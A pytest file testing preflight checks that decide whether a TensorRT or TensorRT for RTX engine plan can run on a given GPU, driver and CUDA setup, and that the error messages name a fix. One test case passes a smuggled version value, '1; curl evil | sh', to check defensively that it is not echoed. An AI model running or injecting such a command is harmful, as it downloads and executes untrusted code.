"""Whether a plan can run here is known before TensorRT is asked, and said in words that name a command."""

from __future__ import annotations

import sys
from types import SimpleNamespace
from typing import TYPE_CHECKING, Any

import pytest

from engines import cuda_requirement, preflight
from engines.cuda import CudaDevice
from engines.cuda_requirement import cuda_major_of
from engines.preflight import engine_validity_words, require_runnable
from engines.tensorrt_module import tensorrt_module
from export.errors import ArtifactError, BackendError
from export.sidecar import Artifact, Recipe

if TYPE_CHECKING:
    from pathlib import Path

ORIN = {"name": "Orin", "compute_capability": "8.7", "driver": "540.4.0", "cuda": "12.6"}
RTX_SM = ("NONE", "CURRENT", "SM75", "SM80", "SM86", "SM89", "SM120", "SM121")


def gpu(sm: str, name: str = "NVIDIA X", cuda: str = "13.0", driver: str = "580.1") -> CudaDevice:
    return CudaDevice(0, name, sm, 1 << 33, cuda, driver)


@pytest.fixture(autouse=True)
def installed(monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    """Stands in for the packages: TensorRT for RTX 1.7.1 for CUDA 13, classic TensorRT 10.13.2 for CUDA 12."""
    modules = {
        "tensorrt_rtx": SimpleNamespace(
            __version__="1.7.1", ComputeCapability=SimpleNamespace(**dict.fromkeys(RTX_SM, 0))
        ),
        "tensorrt": SimpleNamespace(__version__="10.13.2"),
    }
    monkeypatch.setattr(preflight, "tensorrt_module", modules.__getitem__)
    monkeypatch.setattr(preflight, "cuda_major_of", {"tensorrt_rtx": 13, "tensorrt": 12}.get)
    return modules


def engine(tmp_path: Path, package: str, version: str, **facts: Any) -> Artifact:
    recipe = Recipe("engine", {"onnx": "0" * 64}, {"backend": {package: version}})
    return Artifact(tmp_path / f"q8.{package}.plan", "0" * 64, recipe, facts, recipe.key)


@pytest.mark.parametrize(
    ("package", "version", "facts", "device"),
    [
        ("tensorrt_rtx", "1.7.1", {"compute_capabilities": "portable default"}, gpu("8.6")),
        ("tensorrt_rtx", "1.7.1", {"compute_capabilities": "portable default"}, gpu("12.1")),
        ("tensorrt_rtx", "1.7.1", {"compute_capabilities": ["8.6", "8.9"]}, gpu("8.9")),
        ("tensorrt_rtx", "1.7.1", {"compute_capabilities": ["7.5"]}, gpu("7.5")),
        ("tensorrt_rtx", "1.7.1", {}, gpu("8.9")),
        ("tensorrt", "10.13.2", {"device": ORIN}, gpu("8.7", "Orin", "12.6")),
        ("tensorrt", "10.13.2", {}, gpu("8.7", "Orin")),
        ("tensorrt", "10.13.2", {"device": ORIN, "hardware_compatible": True}, gpu("9.0")),
        ("tensorrt", "10.3.0", {"device": ORIN, "version_compatible": True}, gpu("8.7", "Orin")),
        ("tensorrt", "8.6.1", {"version_compatible": True}, gpu("8.7", "Orin")),
        ("tensorrt", "10.13.2", {"device": ORIN}, gpu("8.7", "Orin", cuda="")),
    ],
)
def test_what_may_run_passes(
    package: str, version: str, facts: dict[str, Any], device: CudaDevice, tmp_path: Path
) -> None:
    require_runnable(engine(tmp_path, package, version, **facts), package, device)


@pytest.mark.parametrize(
    ("package", "version", "facts", "device", "told"),
    [
        (
            "tensorrt_rtx",
            "1.6.0",
            {},
            gpu("8.9"),
            r"built with TensorRT for RTX '1\.6\.0', here is 1\.7\.1.*build-engines",
        ),
        ("tensorrt_rtx", "1.6.0", {"version_compatible": True}, gpu("8.9"), "their own release only"),
        ("tensorrt", "10.13.3", {}, gpu("8.7"), r"without --version-compatible .*pip install tensorrt==10\.13\.3"),
        ("tensorrt", "10.3.0", {}, gpu("8.7"), "without --version-compatible"),
        ("tensorrt", "10.13.3", {"version_compatible": True}, gpu("8.7"), "with later releases only"),
        ("tensorrt", "11.0.0", {"version_compatible": True}, gpu("8.7"), "with later releases only"),
        ("tensorrt", "7.2.3", {"version_compatible": True}, gpu("8.7"), "with later releases only"),
        ("tensorrt", "", {"version_compatible": True}, gpu("8.7"), "with later releases only"),
        ("tensorrt_rtx", "1; curl evil\n| sh", {}, gpu("8.9"), r"with --backend tensorrt-rtx here$"),
        ("tensorrt_rtx", "1.7.1", {}, gpu("9.0", cuda="12.0"), "does not run on NVIDIA X"),
        (
            "tensorrt_rtx",
            "1.7.1",
            {},
            gpu("9.0", "NVIDIA H200"),
            "does not run on NVIDIA H200 .*tensorrt or onnxruntime-cuda",
        ),
        ("tensorrt_rtx", "1.7.1", {"compute_capabilities": ["9.0"]}, gpu("9.0"), "whatever q8"),
        ("tensorrt_rtx", "1.7.1", {}, gpu("10.0"), r"does not run on NVIDIA X \(SM 10\.0\)"),
        ("tensorrt_rtx", "1.7.1", {"compute_capabilities": ["8.6"]}, gpu("8.9"), r"build-engines with .*--sm 8\.9"),
        ("tensorrt_rtx", "1.7.1", {}, gpu("7.5"), r"portable default.*--sm 7\.5"),
        (
            "tensorrt",
            "10.13.2",
            {"device": ORIN},
            gpu("8.9"),
            r"'Orin \(SM 8\.7\)', and this is NVIDIA X \(SM 8\.9\); run",
        ),
        (
            "tensorrt",
            "10.13.2",
            {"device": ORIN},
            gpu("8.7", "Orin 2"),
            "build-engines with --backend tensorrt on this",
        ),
        ("tensorrt", "10.13.2", {"device": ORIN, "hardware_compatible": True}, gpu("7.5"), "needs SM 8.0 or later"),
        (
            "tensorrt_rtx",
            "1.7.1",
            {},
            gpu("8.9", cuda="12.8", driver="570.1"),
            "driver 570.1 .*CUDA 12.8.* update .* 580",
        ),
        ("tensorrt_rtx", "1.7.1", {}, gpu("8.9", cuda="11.8"), "update the driver to 580 or later$"),
        (
            "tensorrt",
            "10.13.2",
            {},
            gpu("8.7", cuda="11.4", driver=""),
            "the driver .* 535 or later, or: .*tensorrt-cu11",
        ),
    ],
)
def test_what_cannot_run_names_a_command(
    package: str, version: str, facts: dict[str, Any], device: CudaDevice, told: str, tmp_path: Path
) -> None:
    with pytest.raises(BackendError, match=told) as caught:
        require_runnable(engine(tmp_path, package, version, **facts), package, device)
    assert "\n" not in str(caught.value)
    assert len(str(caught.value)) < 400


def test_plan_of_another_backend(tmp_path: Path) -> None:
    with pytest.raises(BackendError, match="built with 'tensorrt', not for TensorRT for RTX; run build-engines with"):
        require_runnable(engine(tmp_path, "tensorrt", "10.13.2"), "tensorrt_rtx", gpu("8.9"))


@pytest.mark.parametrize(
    ("facts", "told"),
    [
        ({"device": ["Orin"]}, "device"),
        ({"device": {"name": 3}}, "device"),
        ({"version_compatible": "yes"}, "version_compatible"),
        ({"hardware_compatible": 1}, "hardware_compatible"),
        ({"compute_capabilities": 8.6}, "compute_capabilities"),
        ({"compute_capabilities": [8.6]}, "compute_capabilities"),
        ({"compute_capabilities": "8.6"}, "compute_capabilities"),
    ],
)
def test_facts_of_the_wrong_type_are_told(facts: dict[str, Any], told: str, tmp_path: Path) -> None:
    with pytest.raises(ArtifactError, match=told):
        require_runnable(engine(tmp_path, "tensorrt", "10.13.2", **facts), "tensorrt", gpu("8.7", "Orin"))


@pytest.mark.parametrize("versions", [{}, "1.7.1", {"tensorrt_rtx": 17}, None])
def test_a_backend_of_the_wrong_type_is_told(versions: object, tmp_path: Path) -> None:
    recipe = Recipe("engine", {}, {"backend": versions})
    with pytest.raises(ArtifactError, match=r"q8\.plan\.json"):
        require_runnable(Artifact(tmp_path / "q8.plan", "", recipe, {}, ""), "tensorrt_rtx", gpu("8.9"))


def test_what_is_no_engine_is_told(tmp_path: Path) -> None:
    recipe = Recipe("onnx", {}, {"backend": {"tensorrt_rtx": "1.7.1"}})
    with pytest.raises(ArtifactError, match="is not an engine but of kind 'onnx'"):
        require_runnable(Artifact(tmp_path / "q8.plan", "", recipe, {}, ""), "tensorrt_rtx", gpu("8.9"))


def test_a_missing_package_is_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(preflight, "tensorrt_module", tensorrt_module)
    monkeypatch.setitem(sys.modules, "tensorrt", None)
    with pytest.raises(BackendError, match="pip install"):
        require_runnable(engine(tmp_path, "tensorrt", "10.13.2"), "tensorrt", gpu("8.7"))


def test_validity_bits_are_those_of_the_package() -> None:
    rtx = pytest.importorskip("tensorrt_rtx", reason="TensorRT for RTX has no wheel for this platform")
    members = rtx.EngineInvalidityDiagnostics.__members__
    told = {name: engine_validity_words(int(member)) for name, member in members.items()}
    expected = {
        "VERSION_MISMATCH": "another release",
        "UNSUPPORTED_CC": "--sm",
        "OLD_CUDA_DRIVER": "update the driver",
        "OLD_CUDA_RUNTIME": "CUDA runtime is too old",
        "INSUFFICIENT_GPU_MEMORY": "too little memory",
        "MALFORMED_ENGINE": "damaged",
        "CUDA_ERROR": "nvidia-smi",
    }
    assert told.keys() == expected.keys()
    assert all(words in told[name] for name, words in expected.items())


def test_validity_bits_add_up() -> None:
    both = engine_validity_words(2 | 4)
    assert engine_validity_words(2) in both
    assert engine_validity_words(4) in both
    assert "no reason" in engine_validity_words(0)
    assert "0x400" in engine_validity_words(1024)


@pytest.mark.parametrize(
    ("distributions", "major"),
    [
        ({"tensorrt": [], "tensorrt_cu12": ["tensorrt_cu12_libs==10.13.2"]}, 12),
        ({"tensorrt": ["tensorrt_cu13==11.4.0"], "tensorrt_cu13": []}, 13),
        ({"tensorrt": ["nvidia-cuda-runtime-cu12", "nvidia-cudnn-cu12"]}, 12),
        ({"tensorrt": []}, None),
        ({}, None),
    ],
)
def test_cuda_of_a_package(
    distributions: dict[str, list[str]], major: int | None, monkeypatch: pytest.MonkeyPatch
) -> None:
    def distribution(name: str) -> Any:
        if name not in distributions:
            raise cuda_requirement.PackageNotFoundError(name)
        return SimpleNamespace(requires=distributions[name])

    monkeypatch.setattr(cuda_requirement, "distribution", distribution)
    assert cuda_major_of("tensorrt") == major


def test_cuda_of_the_installed_package_is_that_of_its_library() -> None:
    """The name of the distribution says it; what the library itself was linked for must agree."""
    libraries = pytest.importorskip("tensorrt_rtx_libs", reason="TensorRT for RTX has no wheel for this platform")
    from importlib.metadata import packages_distributions

    owners = packages_distributions()[libraries.__name__]
    assert [f"cu{cuda_major_of('tensorrt_rtx')}" in owner for owner in owners] == [True]


@pytest.mark.parametrize(
    "error", [ImportError("libnvinfer.so.10: cannot open\nshared object file"), OSError("Could not")]
)
def test_a_missing_library_names_the_remedy(error: Exception, monkeypatch: pytest.MonkeyPatch) -> None:
    def failing(name: str) -> object:
        raise error

    monkeypatch.setattr("engines.tensorrt_module.importlib.import_module", failing)
    with pytest.raises(BackendError, match="LD_LIBRARY_PATH, or install both anew: pip install tensorrt") as caught:
        tensorrt_module("tensorrt")
    assert "\n" not in str(caught.value)
